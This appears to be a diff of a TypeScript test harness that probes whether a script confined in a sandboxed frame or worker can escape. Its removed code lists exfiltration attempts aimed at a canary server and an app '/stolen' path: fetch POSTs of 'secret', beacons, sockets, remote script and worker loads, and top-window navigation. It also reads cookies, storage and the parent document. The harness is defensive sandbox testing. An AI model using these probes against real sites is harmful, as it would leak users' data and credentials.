@@ -1,6 +1,12 @@
+import { documentAttacks } from './attacks-of-documents.ts'
+import { deviceAttacks } from './attacks-on-devices.ts'
+import { networkAttacks } from './attacks-on-network.ts'
+import { storeAttacks } from './attacks-on-stores.ts'
+
 /*
- * Everything a script could try from inside the sandbox. Runs as text in the frame and in its workers, so that it stands
- * on nothing but its argument.
+ * Everything a script could try from inside the sandbox, as if a program had broken out of WebAssembly: one line for each
+ * way out. The tables are the coverage; they run as text in frames and workers, so that a deed stands on nothing but its
+ * arguments.
  */
 
 export interface AttackTargets {
@@ -8,155 +14,131 @@ export interface AttackTargets {
   readonly canary: string
   /** The app's own server. */
   readonly app: string
+  /** A UDP port of the stranger's, as an ICE server. */
+  readonly stun: string
 }
 
-/** Evaluated first: a dynamic import, which no bundler may touch. */
-export const importModule = 'globalThis.importModule = (url) => import(url)'
+/** What a deed works with. */
+export interface Tools {
+  /** The global object: what there is to be found is the question. */
+  // biome-ignore lint/suspicious/noExplicitAny: as above
+  readonly world: Record<string, any>
+  readonly targets: AttackTargets
+  /** A global by its name; an absent one ends the attempt as blocked. */
+  // biome-ignore lint/suspicious/noExplicitAny: as above
+  need(name: string): any
+  /** Ends as reached with the first of the good events, as blocked with the first of the bad ones. */
+  event(target: EventTarget, good: readonly string[], bad: readonly string[]): Promise<string>
+  /** Puts an element into the document; ends as its events say. */
+  element(tag: string, attributes: Readonly<Record<string, string>>, text?: string): Promise<string>
+  /** Puts a style sheet into the document, and an element `.probe` for it, its own. */
+  style(css: string): Promise<string>
+  /** For whatever says nothing itself: only the server knows. */
+  silence(ms?: number): Promise<string>
+}
 
-/** How each attempt ended: `blocked …`, `absent`, or whatever was reached. */
+export interface Attack {
+  readonly name: string
+  /** Where there is anything to try: the frame has a document, a worker has not. */
+  readonly from: 'anywhere' | 'document'
+  /** With the server: it is tried on the stranger's and on the app's, at this path. */
+  readonly path?: string
+  /** Why even a page without walls sends nothing. */
+  readonly dull?: string
+  /** It takes a window elsewhere, and another attempt at the same time would take it back. */
+  readonly alone?: true
+  /** `url` is the path at the server it is tried on; empty for an attack without one. */
+  readonly deed: (tools: Tools, url: string) => unknown
+}
+
+export const attacks: readonly Attack[] = [
+  ...networkAttacks,
+  ...documentAttacks,
+  ...storeAttacks,
+  ...deviceAttacks,
+]
+
+/** How each attempt ended: `blocked …`, or whatever was reached. */
 export type AttackReport = Readonly<Record<string, string>>
 
-export async function attack({ canary, app }: AttackTargets): Promise<AttackReport> {
-  // biome-ignore lint/suspicious/noExplicitAny: what is there to be found is the question
+/** Script text whose value is the promise of a report on these attacks. */
+export function attackScript(list: readonly Attack[], targets: AttackTargets): string {
+  const items = list.map(({ name, from, path, alone = false, deed }) => {
+    const text = String(deed)
+    const member = /^(?:async )?deed\(/.test(text) ? text : `deed: (${text})`
+    return `{ name: ${JSON.stringify(name)}, from: '${from}', path: ${JSON.stringify(path)}, alone: ${alone}, ${member} }`
+  })
+  return `(${runAttacks})([${items.join(',\n')}], ${JSON.stringify(targets)}, (url) => import(url))`
+}
+
+/** Runs as text: all at once, because most end only when their time is over. */
+async function runAttacks(
+  list: readonly Attack[],
+  targets: AttackTargets,
+  importModule: (url: string) => Promise<unknown>,
+): Promise<AttackReport> {
+  // biome-ignore lint/suspicious/noExplicitAny: as above
   const world = globalThis as unknown as Record<string, any>
-  const report: Record<string, string> = {}
-  const soon = (ms: number): Promise<string> =>
+  world['importModule'] = importModule
+  const page = world['document'] as Document | undefined
+  const later = (ms: number): Promise<string> =>
     new Promise((resolve) => setTimeout(() => resolve('blocked in silence'), ms))
+  let probes = 0
+  const tools: Tools = {
+    world,
+    targets,
+    need(name) {
+      if (world[name] === undefined) throw Object.assign(new Error(), { name: 'absence' })
+      return world[name]
+    },
+    event: (target, good, bad) =>
+      new Promise((resolve) => {
+        for (const type of good) target.addEventListener(type, () => resolve(`REACHED by ${type}`))
+        for (const type of bad) target.addEventListener(type, () => resolve('blocked by error'))
+      }),
+    element(tag, attributes, text = '') {
+      const made = page!.createElement(tag)
+      for (const [name, value] of Object.entries(attributes)) made.setAttribute(name, value)
+      made.textContent = text
+      const end = tools.event(made, ['load', 'loadeddata'], ['error'])
+      ;(page!.body ?? page!.documentElement).append(made)
+      return end
+    },
+    style(css) {
+      const name = `probe-${++probes}`
+      const sheet = page!.createElement('style')
+      sheet.textContent = css.replaceAll('.probe', `.${name}`)
+      const probe = page!.createElement('div')
+      probe.className = name
+      probe.textContent = 'probe'
+      page!.documentElement.append(sheet, probe)
+      return later(1_000)
+    },
+    silence: (ms = 1_000) => later(ms),
+  }
+  const report: Record<string, string> = {}
   const attempt = async (name: string, deed: () => unknown): Promise<void> => {
     try {
-      report[name] = String(await Promise.race([deed(), soon(700)]))
+      report[name] = String(await Promise.race([deed(), later(1_500)]))
     } catch (error) {
-      report[name] = `blocked by ${(error as Error).name}`
+      report[name] = `blocked by ${(error as Error | undefined)?.name}`
     }
   }
-  // biome-ignore lint/suspicious/noExplicitAny: as above
-  const need = (name: string): any => {
-    if (world[name] === undefined) throw Object.assign(new Error(), { name: 'absence' })
-    return world[name]
-  }
-  const event = (target: EventTarget, good: string[], bad: string[]): Promise<string> =>
-    new Promise((resolve) => {
-      for (const type of good) target.addEventListener(type, () => resolve(`REACHED by ${type}`))
-      for (const type of bad) target.addEventListener(type, () => resolve('blocked by error'))
-    })
-
-  for (const [where, origin] of Object.entries({ canary, app: canary === app ? app : `${app}/stolen` })) {
-    await attempt(`fetch ${where}`, async () => `REACHED ${(await need('fetch')(`${origin}/fetch`)).status}`)
-    await attempt(`fetch without CORS ${where}`, async () => {
-      await need('fetch')(`${origin}/no-cors`, { mode: 'no-cors', method: 'POST', body: 'secret' })
-      return 'REACHED'
-    })
-    await attempt(`keepalive ${where}`, async () => {
-      await need('fetch')(`${origin}/keepalive`, { mode: 'no-cors', keepalive: true })
-      return 'REACHED'
-    })
-    await attempt(`XMLHttpRequest ${where}`, () => {
-      const request = new (need('XMLHttpRequest'))()
-      const end = event(request, ['load'], ['error'])
-      request.open('GET', `${origin}/xhr`)
-      request.send()
-      return end
-    })
-    await attempt(`WebSocket ${where}`, () => {
-      const socket = new (need('WebSocket'))(`${origin.replace('http', 'ws')}/socket`)
-      return event(socket, ['open'], ['error'])
-    })
-    await attempt(`EventSource ${where}`, () =>
-      event(new (need('EventSource'))(`${origin}/events`), ['open'], ['error']),
+  const { canary, app } = targets
+  const servers = { canary, ...(canary === app ? {} : { app: `${app}/stolen` }) }
+  const attempts = list
+    .filter(({ from }) => from === 'anywhere' || page !== undefined)
+    .flatMap(({ name, path, alone, deed }) =>
+      path === undefined
+        ? [{ name, alone, url: '', deed }]
+        : Object.entries(servers).map(([where, origin]) => {
+            return { name: `${name}, ${where}`, alone, url: `${origin}/${path}`, deed }
+          }),
     )
-    await attempt(`WebTransport ${where}`, async () => {
-      await new (need('WebTransport'))(`${origin.replace('http:', 'https:')}/transport`).ready
-      return 'REACHED'
-    })
-    // It says yes and sends nothing: only the server knows.
-    await attempt(`sendBeacon ${where}`, () => {
-      need('navigator').sendBeacon(`${origin}/beacon`, 'x')
-      return soon(300)
-    })
-    await attempt(`importScripts ${where}`, () => {
-      need('importScripts')(`${origin}/script.js`)
-      return 'REACHED'
-    })
-    await attempt(`import() ${where}`, async () => {
-      await need('importModule')(`${origin}/module.js`)
-      return 'REACHED'
-    })
-    await attempt(`worker of ${where}`, () =>
-      event(new (need('Worker'))(`${origin}/worker.js`), ['message'], ['error']),
-    )
-    await attempt(`SharedWorker of ${where}`, () =>
-      event(new (need('SharedWorker'))(`${origin}/shared.js`), ['message'], ['error']),
-    )
-    await attempt(`FontFace ${where}`, async () => {
-      await new (need('FontFace'))('probe', `url(${origin}/font.woff2)`).load()
-      return 'REACHED'
-    })
-    if (world['document'] === undefined) continue
-    const document = world['document'] as Document
-    const element = (tag: string, attributes: Record<string, string>): Promise<string> => {
-      const made = Object.assign(document.createElement(tag), attributes)
-      const end = event(made, ['load'], ['error'])
-      document.documentElement.append(made)
-      return end
-    }
-    await attempt(`image ${where}`, () => element('img', { src: `${origin}/image.png` }))
-    await attempt(`script ${where}`, () => element('script', { src: `${origin}/element.js` }))
-    await attempt(`stylesheet ${where}`, () =>
-      element('link', { rel: 'stylesheet', href: `${origin}/style.css` }),
-    )
-    await attempt(`prefetch ${where}`, () => element('link', { rel: 'prefetch', href: `${origin}/prefetch` }))
-    await attempt(`preload ${where}`, () =>
-      element('link', { rel: 'preload', as: 'script', href: `${origin}/preload` }),
-    )
-    await attempt(`video ${where}`, () => element('video', { src: `${origin}/video.mp4` }))
-    await attempt(`object ${where}`, () => element('object', { data: `${origin}/object` }))
-    await attempt(`style of an element ${where}`, () => {
-      document.documentElement.style.backgroundImage = `url(${origin}/background.png)`
-      return soon(300)
-    })
-    await attempt(`form ${where}`, () => {
-      const form = Object.assign(document.createElement('form'), { action: `${origin}/form`, method: 'post' })
-      document.documentElement.append(form)
-      form.submit()
-      return soon(300)
-    })
-    await attempt(`window.open ${where}`, () =>
-      need('open')(`${origin}/popup`) === null ? 'blocked' : 'REACHED',
-    )
-    await attempt(`navigation of the top ${where}`, () => {
-      ;(world['top'] as Window).location.href = `${origin}/top`
-      return soon(300)
-    })
-  }
-
-  await attempt('indexedDB', () =>
-    event(need('indexedDB').open('app'), ['success', 'upgradeneeded'], ['error']),
-  )
-  await attempt('caches', async () => `REACHED ${(await need('caches').keys()).join()}`)
-  await attempt(
-    'private file system',
-    async () => `REACHED ${(await need('navigator').storage.getDirectory()).name}`,
-  )
-  await attempt('locks', async () => `REACHED ${JSON.stringify(await need('navigator').locks.query())}`)
-  await attempt(
-    'service worker',
-    async () => `REACHED ${await need('navigator').serviceWorker.getRegistrations()}`,
-  )
-  await attempt('cookieStore', async () => `REACHED ${JSON.stringify(await need('cookieStore').getAll())}`)
-  await attempt('BroadcastChannel', () => {
-    const channel = new (need('BroadcastChannel'))('app')
-    channel.postMessage('from the sandbox')
-    return event(channel, ['message'], [])
-  })
-  await attempt('eval', () => `REACHED ${need('eval')('1+1')}`)
-  await attempt('Function', () => `REACHED ${need('Function')('return 1')()}`)
-  if (world['document'] !== undefined) {
-    await attempt('cookie', () => `REACHED ${(world['document'] as Document).cookie}`)
-    await attempt('localStorage', () => `REACHED ${world['localStorage'].length}`)
-    await attempt('sessionStorage', () => `REACHED ${world['sessionStorage'].length}`)
-    await attempt('parent document', () => `REACHED ${world['parent'].document.title}`)
-    await attempt('parent function', () => `REACHED ${typeof world['parent'].sandboxPage}`)
-    await attempt('alert', () => (need('alert')('x') === undefined ? 'blocked' : 'REACHED'))
+  const together = attempts.filter(({ alone }) => alone !== true)
+  await Promise.all(together.map(({ name, url, deed }) => attempt(name, () => deed(tools, url))))
+  for (const { name, url, alone, deed } of attempts) {
+    if (alone === true) await attempt(name, () => deed(tools, url))
   }
   return report
 }
